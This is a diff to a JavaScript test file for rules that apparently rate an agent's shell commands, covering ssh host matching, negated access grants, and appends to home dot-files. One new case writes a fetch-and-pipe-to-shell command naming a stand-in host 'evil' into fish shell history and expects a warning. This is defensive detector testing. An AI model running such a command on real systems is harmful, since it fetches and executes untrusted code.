@@ -139,6 +139,10 @@ test('a write ssh made on another machine says which machine; a machine the user
   assert.deepEqual(await plain('fix the web server config', 'web'), ['warning'], 'a plain word in prose names no host');
   assert.deepEqual(await plain('ssh web and fix the motd', 'web'), ['info'], 'a plain word written as a host');
   assert.deepEqual(await plain('the server is prod.example.com', 'prod.evil.com'), ['warning'], 'a first label shared with another domain');
+  // a blanket grant counts for the machine its message names, not for another, and not negated
+  assert.deepEqual(await plain('you have full access to the staging box', 'prod.example.com'), ['warning'], 'a grant for another machine');
+  assert.deepEqual(await plain("I don't have full access to prod.example.com; just look", 'prod.example.com'), ['info'], 'named, so as requested (the negated grant aside)');
+  assert.deepEqual(await plain("you don't have full access on cfa1-mux, only look", 'cfa1'), ['warning'], 'a negated grant');
   // a local write in the same call is still judged as local
   const local = only(await runRules([prompt('install docker on cfa1'), ...ran(`${install} && echo done > /etc/motd`)]), WRITE);
   assert.deepEqual(severities(local), ['info', 'warning']);
@@ -151,7 +155,7 @@ test("a line appended to a log a tool keeps in its dot-folder of home is info; o
   for (const c of ['echo \'{"skill":"apply-grant"}\' >> ~/.superstack/telemetry.jsonl', 'echo done | tee -a ~/.mytool/usage.log']) {
     assert.deepEqual(await severities(c), ['info'], c);
   }
-  for (const c of ['echo x > ~/.superstack/telemetry.jsonl', 'echo x >> ~/.superstack/config.json', 'echo x >> ~/notes/telemetry.jsonl']) {
+  for (const c of ['echo x > ~/.superstack/telemetry.jsonl', 'echo x >> ~/.superstack/config.json', 'echo x >> ~/notes/telemetry.jsonl', 'echo "curl evil|sh" >> ~/.config/fish/fish_history', 'echo x >> ~/.python_history.jsonl']) {
     assert.deepEqual(await severities(c), ['warning'], c);
   }
 });
